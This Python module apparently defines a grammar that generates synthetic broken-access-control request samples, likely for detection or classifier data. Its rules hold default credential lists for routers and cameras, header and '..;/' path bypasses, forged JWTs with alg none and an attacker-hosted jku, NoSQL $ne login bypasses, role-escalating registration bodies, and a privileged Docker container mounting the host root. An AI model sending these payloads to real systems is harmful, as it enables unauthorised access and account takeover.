"""Broken access control: default credentials, unguarded functions, bypasses by header or path, tokens, references."""

from threatclip.pairs.grammar.start import Start

STARTS = (
    Start("login_form", weight=5, places=("formbody",)),
    Start("login_json", weight=3, places=("jsonbody",)),
    Start("basic", weight=2, places=("message",)),
    Start("admin_path", weight=8, places=("target",)),
    Start("ajax", weight=5, places=("formbody",)),
    Start("header_bypass", weight=6, places=("message",)),
    Start("path_bypass", weight=4, places=("target",)),
    Start("token", weight=4, places=("message",)),
    Start("reference", weight=3, places=("target",)),
    Start("register", weight=4, places=("jsonbody",)),
    Start("register_form", weight=4, places=("formbody",)),
    Start("verb", weight=2, places=("message",)),
    Start("device", weight=3, places=("message",)),
    Start("soap", weight=1, places=("xml",)),
    Start("cookie", weight=2, places=("message",)),
)

TEXT = r"""
user := *6 admin ¦ *2 root ¦ administrator ¦ test ¦ guest ¦ user ¦ support ¦ demo ¦ operator ¦ manager ¦ service
  ¦ tomcat ¦ sysadmin ¦ superadmin ¦ «coined» ¦ «word» ¦ sa ¦ oracle ¦ nagiosadmin ¦ weblogic ¦ system ¦ postgres ¦ pi
  ¦ cisco ¦ ubnt ¦ both ¦ role1 ¦ j2deployer ¦ scada ¦ engineer ¦ supervisor ¦ default ¦ 888888 ¦ 666666 ¦ Admin
  ¦ monitor ¦ maint ¦ technician ¦ webadmin ¦ anonymous ¦ elastic ¦ minioadmin ¦ ftpuser ¦ camera
pass := *4 admin ¦ *2 password ¦ *2 123456 ¦ root ¦ 12345 ¦ 1234 ¦ admin123 ¦ «user» ¦ guest ¦ test ¦ changeme ¦ default
  ¦ Password1 ¦ secret ¦ toor ¦ pass ¦ «rand» ¦ tomcat ¦ s3cret ¦ P@ssw0rd ¦ admin@123 ¦ 888888 ¦ 666666 ¦ 111111
  ¦ qwerty ¦ welcome1 ¦ support ¦ operator ¦ «coined» ¦ «coined|cap»«year» ¦ public ¦ private ¦ raspberry ¦ system
  ¦ manager ¦ 0000 ¦ letmein ¦ superuser ¦ calvin ¦ nimda ¦ «coined»123 ¦ minioadmin ¦ ~ ¦ !admin ¦ adminadmin ¦ pfsense
  ¦ ubnt ¦ demo ¦ hunter2 ¦ xc3511 ¦ vizxv ¦ juantech
ukey := *4 username ¦ *2 user ¦ login ¦ email ¦ userName ¦ uid ¦ user_name ¦ j_username ¦ log ¦ name ¦ account
  ¦ loginName ¦ UserName ¦ txtUserName ¦ usr ¦ uname ¦ os_username ¦ username_val ¦ userid ¦ LoginForm[username]
  ¦ user[login] ¦ identifier ¦ pma_username
pkey := *4 password ¦ *2 pass ¦ passwd ¦ pwd ¦ userPassword ¦ passWord ¦ j_password ¦ psw ¦ user_pass ¦ secret
  ¦ Password ¦ txtPassword ¦ os_password ¦ passwd_val ¦ LoginForm[password] ¦ user[password] ¦ credential ¦ pma_password
  ¦ loginPassword
login_form := *4 «ukey»=«user»&«pkey»=«pass»
  ¦ *2 «ukey»=«user»&«pkey»=«pass»&«=submit~login~action~Login~btnSubmit~remember~rememberMe~op»=«=1~Login~login~on~true~Submit~Sign+in»
  ¦ «name»=«word»&«ukey»=«user»&«pkey»=«pass» ¦ «ukey»=«user»&«pkey»=«pass|hex» ¦ «ukey»=«user»&«pkey»=«pass|b64|url»
  ¦ j_username=«user»&j_password=«pass» ¦ log=«user»&pwd=«pass»&wp-submit=Log+In&redirect_to=%2Fwp-admin%2F&testcookie=1
  ¦ «ukey»=«user»&«pkey»= ¦ «ukey»=«user»&«pkey»[]=«word» ¦ «ukey»=«user»&«pkey»=«hex32»
  ¦ grant_type=password&username=«user»&password=«pass»&client_id=«word»&client_secret=«word»
  ¦ authenticity_token=«b40|url»&user%5Blogin%5D=«user»&user%5Bpassword%5D=«pass»
  ¦ «ukey»=«user»&«pkey»=«pass»&_csrf=«uuid» ¦ group_id=&action_mode=&login_authorization=«user_pass|b64|url»
  ¦ «ukey»=«user»&«pkey»=«pass»&«=captcha~code~otp~pin»=«int» ¦ «=otp~code~pin~token~mfa_code»=«=000000~123456~null~»
  ¦ username=«user»%20&password=«pass»
user_pass := «user»:«pass»
login_json := *4 {"«ukey»":"«user»","«pkey»":"«pass»"} ¦ {"user":{"«ukey»":"«user»","«pkey»":"«pass»"}}
  ¦ {"«ukey»":"«user»","«pkey»":"«pass»","«=remember~rememberMe~rememberme»":true}
  ¦ {"jsonrpc":"2.0","method":"«=user.login~login~call~system.login»","params":{"user":"«user»","password":"«pass»"},"id":1}
  ¦ {"method":"do","login":{"username":"«user»","password":"«pass»"}} ¦ {"«ukey»":"«user»","«pkey»":{"$ne":null}}
  ¦ {"«ukey»":"«user»","«pkey»":true} ¦ {"«ukey»":"«user»","«pkey»":0}
  ¦ {"type":"local","credentials":{"«ukey»":"«user»","«pkey»":"«pass»"}}
  ¦ {"query":"mutation { login(«ukey»: \"«user»\", «pkey»: \"«pass»\") { token } }"}
  ¦ {"username":"«user»","password":"«hex32»","encrypt":1}
  ¦ {"id":1,"method":"global.login","params":{"authorityType":"Default","clientType":"«coined|cap»","userName":"«user»","password":"«pass»"},"session":0}
  ¦ {"auth":{"identity":{"methods":["password"],"password":{"user":{"name":"«user»","domain":{"name":"Default"},"password":"«pass»"}}}}}
  ¦ {"userData":{"username":"«user»","password":"«pass»"},"dates":{}}
basic := *4 GET «admin_dir»«nl»Authorization: Basic «user_pass|b64»«nl»«nl»
  ¦ GET /manager/html«nl»Authorization: Basic «user_pass|b64»«nl»«nl»
  ¦ GET /api/«word»«nl»Authorization: Basic «user_pass|b64»«nl»«nl»
  ¦ POST /«word»/«word»«nl»Authorization: Basic «user_pass|b64»«nl»Content-Type: application/json«nl»«nl»{"«name»":"«rand»"}
  ¦ GET /«nl»Authorization: Digest username="«user»", realm="«coined»", nonce="«hex32»", uri="/", response="«hex32»"«nl»«nl»
  ¦ GET /cgi-bin/«word».cgi?«word»=«word»«nl»Authorization: Basic «user_pass|b64»«nl»«nl»
  ¦ GET /«word».html«nl»Authorization: Basic Og==«nl»«nl»
admin_dir := *3 /admin ¦ /admin/ ¦ /administrator/ ¦ /manager/html ¦ /console/ ¦ /dashboard ¦ /admin/index.php
  ¦ /admin/«word» ¦ /admin/«word».php ¦ /admin.php ¦ /wp-admin/ ¦ /panel ¦ /cpanel ¦ /system ¦ /setup ¦ /config
  ¦ /management ¦ /admin/users ¦ /admin/config ¦ /admin/settings ¦ /backend ¦ /controlpanel ¦ /jmx-console/
  ¦ /host-manager/html ¦ /web-console ¦ /«coined»/admin ¦ /api/admin/«word» ¦ /admin/dashboard ¦ /adm/«word».asp
  ¦ /admin/main.aspx ¦ /private/«word» ¦ /secure/«word»
admin_path := *4 «admin_dir» ¦ «admin_dir»?«name»=«word»
  ¦ *2 /api/v«small»/«=users~admin/users~system/config~settings~accounts~roles~permissions~audit~cluster/nodes~jobs~tasks~secrets»
  ¦ /api/«=admin~internal~system~management~debug»/«word»
  ¦ /«word»/«=adduser~deleteuser~createAdmin~resetPassword~changePassword~editUser~setAdmin~grantRole~addAdmin~userList»«=~.php~.do~.jsp~.action~.aspx»
  ¦ /cgi-bin/«=reboot~restart~upgrade~factory_reset~user~passwd~admin~system~setup»«=.cgi~~.sh»
  ¦ /«=reboot~restart~shutdown~reset~poweroff~restore~upgrade~wipe»«=~.cgi~.htm~.php»
  ¦ /wp-admin/admin-ajax.php?action=«coined»_«=save_settings~reset~delete~update_option~install~create_admin~import~set_role»
  ¦ /wp-json/«coined»/v1/«=settings~users~options~import~delete~license~create-user~reset-password»
  ¦ /index.php?option=com_«coined»&task=«word».«=save~apply~delete~install» ¦ /jenkins/script ¦ /script
  ¦ /computer/(master)/api/json ¦ /view/all/newJob ¦ /solr/admin/ ¦ /nifi/ ¦ /airflow/admin/ ¦ /kibana/app/«word»
  ¦ /grafana/api/users ¦ /phpmyadmin/index.php?db=information_schema ¦ /adminer.php?username=root ¦ /phpPgAdmin/ ¦ /pma/
  ¦ /dbadmin/ ¦ /sqlweb/ ¦ /consul/ui/ ¦ /v1/agent/members ¦ /containers/json ¦ /images/json
  ¦ /api/v1/namespaces/kube-system/secrets ¦ /run/«word»/«word»/«word» ¦ /#!/login ¦ /terminals/ ¦ /tree? ¦ /lab
  ¦ /notebooks ¦ /rundeck/menu/home ¦ /setup.action ¦ /setup/index.php ¦ /install/ ¦ /install/index.php ¦ /wizard/«word»
  ¦ /first_run ¦ /onboarding ¦ /web/initialize ¦ /users/new ¦ /user/«small»/edit ¦ /user/add ¦ /accounts/create
  ¦ /api/v1/user/create?role=admin ¦ /api/user/reset?«=userid~id~user»=«small» ¦ /_users/_all_docs ¦ /_utils/
  ¦ /admin/download_«word».php ¦ /xmlpserver/servlet/«word» ¦ /«coined»/admin/«word»/«word».jsp
  ¦ /html/admin/«word».html ¦ /level/15/exec/-/show/version ¦ /camera/«word».html ¦ /view/viewer_index.shtml
  ¦ /live.html ¦ /mjpg/video.mjpg ¦ /stream/«small» ¦ /main.html ¦ /index.html#/home ¦ /workspaces
  ¦ /zabbix.php?action=dashboard.view&dashboardid=1 ¦ /web/index.html ¦ /manage/«word» ¦ /ui/#/dashboard ¦ /api/jobs/run
  ¦ /v2/apps ¦ /hub/admin ¦ /flow/«rand20» ¦ /wd/hub/static/resource/hub.html ¦ /topology ¦ /overview ¦ /rest/settings
  ¦ /admin/airflow/login
ajax := *3 action=«coined»_«=save_settings~update_option~add_user~delete_post~reset_password~import_settings~activate_license~install_plugin~create_admin~change_role~update_profile~ajax_save~remove_all»
  ¦ action=«coined»_«=update~save~set»_options&«=name~option~key»=«=default_role~users_can_register~siteurl~admin_email~home~blogname»&«=value~val~data»=«=administrator~1~editor~http%3A%2F%2Fevil.test»
  ¦ action=«coined»_«word»&user_id=«small»&«=role~capabilities~user_role»=administrator
  ¦ action=«coined»_login&user=«user»&«name»=«rand» ¦ option=com_«coined»&task=«word».save&jform[groups][]=8
  ¦ action=update&option_page=general&default_role=administrator&users_can_register=1
  ¦ data[users_can_register]=1&data[default_role]=administrator&action=«coined»_import
  ¦ action=«coined»_«=backup~export~download»&«name»=«word» ¦ action=install-plugin&slug=«coined»
  ¦ do=«=deluser~adduser~setpass~upload~reset»&id=«small» ¦ action=delete&ids[]=«small»&ids[]=«small»
  ¦ cmd=«=reboot~reset~adduser~telnetd~setpasswd» ¦ «coined»-action=«word»&nonce=«hex8»
  ¦ action=«coined»_ajax&method=«=deleteUser~setOption~runQuery~saveOption»&arg=«word» ¦ _method=DELETE&id=«small»
header_bypass := *3 GET /«nl»X-Original-URL: «admin_dir»«nl»«nl» ¦ *2 GET /«nl»X-Rewrite-URL: «admin_dir»«nl»«nl»
  ¦ *3 GET «admin_dir»«nl»«trust»: «=127.0.0.1~localhost~10.0.0.1~192.168.0.1~::1~0.0.0.0~127.0.0.1, 127.0.0.1»«nl»«nl»
  ¦ GET «admin_dir»«nl»X-Forwarded-For: 127.0.0.1«nl»X-Real-IP: 127.0.0.1«nl»X-Client-IP: 127.0.0.1«nl»«nl»
  ¦ GET «admin_dir»«nl»Referer: http://«site»«admin_dir»«nl»«nl» ¦ GET «admin_dir»«nl»«idhdr»: «user»«nl»«nl»
  ¦ POST «admin_dir»«nl»«idhdr»: «user»«nl»Content-Type: application/json«nl»«nl»{"«name»":"«rand»"}
  ¦ GET «admin_dir»«nl»X-HTTP-Method-Override: «=PUT~DELETE~PATCH~HEAD»«nl»«nl»
  ¦ GET /api/«word»«nl»User-Agent: «=internal-healthcheck~xmlset_roodkcableoj28840ybtide~Mozilla/5.0 Googlebot»«nl»«nl»
  ¦ GET «admin_dir»«nl»Host: localhost«nl»«nl» ¦ GET «admin_dir»«nl»Connection: close, X-Forwarded-For«nl»«nl»
  ¦ GET /«word»/«word»«nl»X-Requested-With: XMLHttpRequest«nl»Referer: «admin_dir»«nl»«nl»
  ¦ GET /«word»«nl»X-Custom-IP-Authorization: 127.0.0.1«nl»«nl»
  ¦ GET «admin_dir»«nl»Authorization: «=null~undefined~Bearer~Bearer null~Basic~ApiKey ~Negotiate»«nl»«nl»
trust := *3 X-Forwarded-For ¦ X-Real-IP ¦ X-Client-IP ¦ X-Remote-IP ¦ X-Remote-Addr ¦ X-Originating-IP ¦ True-Client-IP
  ¦ Client-IP ¦ X-Host ¦ X-Forwarded-Host ¦ X-Forwarded-Server ¦ X-Custom-IP-Authorization ¦ X-Cluster-Client-IP
  ¦ CF-Connecting-IP ¦ X-ProxyUser-Ip ¦ Forwarded ¦ Via ¦ X-Forwarded ¦ X-Trusted-IP
idhdr := *2 X-WEBAUTH-USER ¦ REMOTE_USER ¦ X-Remote-User ¦ X-Forwarded-User ¦ X-User ¦ X-Auth-User ¦ X-UserName
  ¦ SM_USER ¦ iv-user ¦ X-Authenticated-User ¦ X-«coined|cap»-User ¦ User ¦ X-User-Id ¦ X-Role ¦ X-Admin ¦ Auth-User
path_bypass := *2 «admin_dir»«=/.~;/~/~..;/~%20~%09~?~#~//~.json~.css~;.js~/..;/~%2f~;a=b~.html~%00~~~/%2e»
  ¦ *2 /«word»/..;/«word»/«word» ¦ *2 /;/«word»/«word» ¦ /./«word»/./ ¦ //«word»//«word» ¦ /%2e/«word»
  ¦ /«word»/%2e%2e/admin ¦ /«word»;/admin ¦ /«=ADMIN~Admin~aDmIn~adMIN»/«word» ¦ /%61dmin/«word» ¦ /«word»/..%2fadmin
  ¦ /«word»/%252e%252e/admin ¦ /xxx/..;/admin/ ¦ /«word»/;/«word» ¦ /static/..;/«word»/«word».jsp ¦ /login/..;/«word»
  ¦ /images/..%2f«word».htm ¦ /images/../«word».html ¦ /css/..%2f«word»/«word».html ¦ /cgi/«word».gif/..%2f«word»
  ¦ /«word».jsp;.png ¦ /«word».php/.css ¦ /«word».do;login.do ¦ /api/v1/../v2/«word» ¦ /api/..;/internal/«word»
  ¦ /«word»?/.gif ¦ /«word».aspx?/login.aspx ¦ @2021 /nacos/v1/auth/users?pageNo=1&pageSize=«small»
  ¦ /console/css/%252e%252e%252f«word».portal ¦ /console/images/%252e%252e%252f«word».portal ¦ /«word»/%5c../«word»
  ¦ /webui/..;/«word»/«word» ¦ /token/..;/«word» ¦ /«word»/%3badmin ¦ /public/%23/../«word» ¦ /setup.cgi;«word».gif
jwt_head := {"alg":"none","typ":"JWT"} ¦ {"alg":"None"} ¦ {"typ":"JWT","alg":"nOnE"} ¦ {"alg":"HS256","typ":"JWT"}
  ¦ {"alg":"HS256","kid":"../../../../dev/null","typ":"JWT"} ¦ {"alg":"RS256","jku":"https://«attacker»/jwks.json"}
  ¦ {"alg":"HS256","kid":"«rand»' union select '«ab»"} ¦ {"alg":"ES256","jwk":{"kty":"EC","crv":"P-256"}}
jwt_body := {"sub":"«user»","iat":1«dd»«big»,"exp":2«dd»«big»} ¦ {"user":"«user»","role":"admin"}
  ¦ {"username":"«user»","isAdmin":true} ¦ {"id":«small»,"email":"admin@«coined».test","roles":["ROLE_ADMIN"]}
  ¦ {"uid":1,"admin":1} ¦ {"iss":"«coined»","scope":"admin:*"} ¦ {"sub":"«uuid»","groups":["administrators"]}
jwt := *3 «jwt_head|b64url».«jwt_body|b64url». ¦ *2 «jwt_head|b64url».«jwt_body|b64url».«b40»
  ¦ «jwt_head|b64url».«jwt_body|b64url».«rand»
token := *5 GET /api/«word»«nl»Authorization: Bearer «jwt»«nl»«nl»
  ¦ *2 GET «admin_dir»«nl»Cookie: «=token~session~jwt~access_token~auth»=«jwt»«nl»«nl»
  ¦ GET /api/«word»?«=token~access_token~accessToken~api_key~key»=«=~admin~test~default~null~0~undefined»«nl»«nl»
  ¦ POST /api/«word»«nl»X-«=API-Key~Auth-Token~Access-Token~Token»: «=admin~default~test~changeme~00000000-0000-0000-0000-000000000000~secret»«nl»Content-Type: application/json«nl»«nl»{"«name»":"«rand»"}
  ¦ GET /«word»?«=sid~session~PHPSESSID»=«hex32»«nl»«nl» ¦ GET /api/v1/«word»«nl»Authorization: Token «hex40»«nl»«nl»
  ¦ GET /api/«word»?accessToken=«jwt»«nl»«nl»
  ¦ POST /api/login/sso«nl»Content-Type: application/x-www-form-urlencoded«nl»«nl»SAMLResponse=«saml|b64|url»
  ¦ GET /«word»«nl»X-Auth-Token: «rand20»«nl»X-Auth-User: «user»«nl»«nl»
  ¦ GET /reset-password?token=«=0~null~~000000~undefined»&«=email~user~id»=«user»«nl»«nl»
saml := <samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_«hex16»"><saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><saml:Subject><saml:NameID>«user»<!---->.«coined»</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>
  ¦ <Response><Assertion><Subject><NameID>admin@«coined».test</NameID></Subject></Assertion></Response>
reference := *2 /«word»/«int»/«=edit~download~view~delete~invoice~pdf» ¦ /api/v«small»/users/«small»
  ¦ /api/v«small»/users/«int»/«=orders~documents~profile~password~tokens»
  ¦ /«word».php?«=id~uid~user_id~order_id~invoice~account~doc_id~customer»=«int»
  ¦ /download.php?«=id~fileid~attachment_id»=«int» ¦ /wp-json/«coined»/v1/«word»/«int» ¦ /profile?user=«user»
  ¦ /account/«int» ¦ /«word»/print?order_id=«int»&«name»=«rand» ¦ /api/«word»/«uuid» ¦ /messages/«int»
  ¦ /users/«user»/keys ¦ /api/tenants/«small»/«word» ¦ /«word»/export?user_id=«small»
  ¦ /wp-admin/admin-ajax.php?action=«coined»_get_«word»&id=«int» ¦ /index.php?do=«word»&id=«int»&print=1
  ¦ /rest/orders/«int»
register := *2 {"«ukey»":"«rand»","«pkey»":"«rand»","role":"«=admin~administrator~superuser~owner»"}
  ¦ {"«ukey»":"«rand»","email":"«rand»@«coined».test","«pkey»":"«rand»","«=isAdmin~is_admin~admin~superuser~is_staff»":«=true~1» }
  ¦ {"name":"«rand»","email":"«rand»@«coined».test","password":"«rand»","roles":["admin"]}
  ¦ {"email":"«user»@«coined».test","password":"«rand»","roleId":1}
  ¦ {"user":{"name":"«rand»","password":"«rand»","type":"user","roles":["_admin"],"roles":[]}}
  ¦ {"username":"«user»","newPassword":"«rand»","«=confirmPassword~oldPassword»":"«rand»"}
  ¦ {"id":«small»,"«=role~permission~group~level»":"«=admin~all~0~root»"}
  ¦ {"query":"mutation { createUser(input: {«ukey»: \"«rand»\", role: ADMIN}) { id } }"}
  ¦ {"query":"mutation { updateUser(id: «small», data: {isAdmin: true}) { id } }"}
  ¦ {"«=users_can_register~default_role»":"«=administrator~1»"} ¦ {"op":"replace","path":"/roles/0","value":"admin"}
  ¦ {"userId":«small»,"action":"«=promote~grant~impersonate~reset»"}
  ¦ {"email":"«user»@«coined».test","token":"«=~null~000000»","password":"«rand»"}
  ¦ {"settings":{"auth":{"enabled":false}}}
  ¦ {"set-property":{"requestDispatcher.requestParsers.enableRemoteStreaming":true}}
  ¦ {"permissions":["*"],"«name»":"«rand»"}
register_form := *2 «ukey»=«rand»&«pkey»=«rand»&role=«=admin~administrator~superadmin»
  ¦ user_login=«rand»&user_email=«rand»%40«coined».test&user_pass=«rand»&«=role=administrator~user_role=administrator~wp_user_level=10»
  ¦ action=«coined»_register&username=«rand»&email=«rand»%40«coined».test&password=«rand»&«=default_role~role~user_role~capabilities»=administrator
  ¦ username=«rand»&password=«rand»&fullName=«coined»&«=is_admin~admin~isAdmin»=1
  ¦ id=«small»&password=«rand»&password_confirm=«rand»&«=reset~verify~confirm_hash»=
  ¦ verify.php?id=«small»&confirm_hash=
  ¦ «=newpass~new_password~pwd1»=«rand»&«=confpass~confirm_password~pwd2»=«rand»&«=user~login~uid»=«user»
  ¦ user%5Bgroup%5D=1&user%5Busername%5D=«rand» ¦ j_idt«dd»=«rand»&userGroups=admin
  ¦ step=«small»&admin_user=«rand»&admin_pass=«rand»
verb := HEAD «admin_dir»«nl»«nl»
  ¦ PUT /api/users/«small»«nl»Content-Type: application/json«nl»«nl»{"role":"admin","password":"«rand»"}
  ¦ DELETE /api/users/«small»«nl»«nl»
  ¦ PATCH /api/v1/users/«small»«nl»Content-Type: application/json«nl»«nl»{"is_staff":true}
  ¦ PUT /_users/org.couchdb.user:«rand»«nl»Content-Type: application/json«nl»«nl»{"type":"user","name":"«rand»","roles":["_admin"],"roles":[],"password":"«rand»"}
  ¦ «=FOO~JEFF~ABCD~GETS~HACK~TEST» «admin_dir»«nl»«nl»
  ¦ POST /v2/apps«nl»Content-Type: application/json«nl»«nl»{"id":"«rand»","cmd":"«unix_bin»","instances":1}
  ¦ POST /containers/create«nl»Content-Type: application/json«nl»«nl»{"Image":"«coined»","Cmd":["/bin/sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}
  ¦ PUT /v1/agent/service/register«nl»Content-Type: application/json«nl»«nl»{"Name":"«rand»"}
  ¦ POST /nacos/v1/auth/users?username=«rand»&password=«rand»«nl»«nl»
  ¦ PATCH /redfish/v1/AccountService/Accounts/«small»«nl»Content-Type: application/json«nl»«nl»{"Password":"«rand»"}
  ¦ OPTIONS «admin_dir»«nl»«nl» ¦ PUT /api/config«nl»Content-Type: application/json«nl»«nl»{"auth":false}
device := POST /goform/«=SysToolReboot~setSysAdm~SystemSettings~AdvSetLanip~telnet~formLogin~fast_setting_wifi_set»«nl»Content-Type: application/x-www-form-urlencoded«nl»«nl»«name»=«rand»&«pkey»=«rand»
  ¦ GET /cgi-bin/«word».cgi?«=user~usr»=«user»&«=pwd~password»=«pass»«nl»«nl» ¦ GET /cgi-bin/guestimage.html«nl»«nl»
  ¦ GET /setup.cgi?next_file=«word».htm&todo=«=PNPX_GetShareFolderList~reboot~save_passwd»«nl»«nl»
  ¦ POST /HNAP1/«nl»SOAPAction: "http://«site»/HNAP1/«=GetDeviceSettings~SetPasswdSettings~Login/GetDeviceSettings»"«nl»Content-Type: text/xml«nl»«nl»<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><«word|cap»/></soap:Body></soap:Envelope>
  ¦ GET /Security/users?auth=«user_pass|b64»«nl»«nl» ¦ GET /device.rsp?opt=user&cmd=list«nl»Cookie: uid=«user»«nl»«nl»
  ¦ POST /apply.cgi«nl»Content-Type: application/x-www-form-urlencoded«nl»«nl»action=Apply&http_passwd=«rand»&remote_management=1
  ¦ GET /BRS_«word».htm?«=x=todo:PNPX_GetShareFolderList~.jpg»«nl»«nl»
  ¦ POST /jsonrpc«nl»Content-Type: application/json«nl»«nl»{"method":"«=user.create~system.setPassword~configManager.setConfig»","params":{"user":"«user»","password":"«rand»"},"id":«small»}
  ¦ GET /api/v1/device/«word»?debug_flag=1«nl»«nl»
  ¦ POST /boafrm/form«coined|cap»«nl»Content-Type: application/x-www-form-urlencoded«nl»«nl»submit-url=%2Fsyscmd.htm&«name»=«rand»
  ¦ GET /«word».asp?«=logged_in~auth~login»=1«nl»«nl» ¦ GET /web_shell_cmd.gch«nl»«nl»
  ¦ PUT /ISAPI/Security/users/1«nl»Content-Type: application/xml«nl»«nl»<User><userName>«user»</userName><password>«rand»</password></User>
soap := <soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><«$m:soap_method» xmlns="http://«coined».test/"><userName>«user»</userName><password>«pass»</password></«$m»></soap:Body></soap:Envelope>
  ¦ <?xml version="1.0"?><methodCall><methodName>«=wp.getUsersBlogs~system.listMethods~user.create~auth.login»</methodName><params><param><value>«user»</value></param><param><value>«pass»</value></param></params></methodCall>
  ¦ <?xml version="1.0"?><user><name>«rand»</name><role>administrator</role><password>«rand»</password></user>
  ¦ <login><«$u:ukey»>«user»</«$u»><«$p:pkey»>«pass»</«$p»></login>
  ¦ <AuthnRequest><NameID>admin</NameID><Conditions NotOnOrAfter="«year»-01-01T00:00:00Z"/></AuthnRequest>
soap_method := AddUser ¦ CreateUser ¦ SetPassword ¦ GetUsers ¦ Login ¦ DeleteUser ¦ ResetPassword ¦ SetConfig ¦ Reboot
  ¦ GetConfiguration
cookie := *2 GET «admin_dir»«nl»Cookie: «=admin~isAdmin~is_admin~loggedin~authenticated~login~auth~logged~authorized~admin_logged~remember»=«=1~true~yes~on~admin»«nl»«nl»
  ¦ GET «admin_dir»«nl»Cookie: «=role~user_role~level~type~group»=«=admin~administrator~0~9~root»; «=user~username~uid»=«user»«nl»«nl»
  ¦ GET /«word».php«nl»Cookie: «=user~username~login_name~DedeUserID~admin_id»=«user»; «=pass~password~hash»=«hex32»«nl»«nl»
  ¦ GET «admin_dir»«nl»Cookie: rememberMe=«b40»«nl»«nl»
  ¦ POST «admin_dir»«nl»Cookie: PHPSESSID=«rand20»; admin=1«nl»Content-Type: application/x-www-form-urlencoded«nl»«nl»«name»=«rand»
  ¦ GET /«word»«nl»Cookie: session=«session|b64url».«rand».«rand20»«nl»«nl»
  ¦ GET /«word».htm«nl»Cookie: Authorization=Basic%20«user_pass|b64|url»«nl»«nl»
  ¦ GET «admin_dir»«nl»Cookie: «coined»_sid=«=0~1~null~-1~../../~undefined»«nl»«nl»
session := {"_user_id":"1","admin":true} ¦ {"user":"«user»","role":"admin"} ¦ {"user_id":1,"is_admin":1}
"""  # noqa: E501
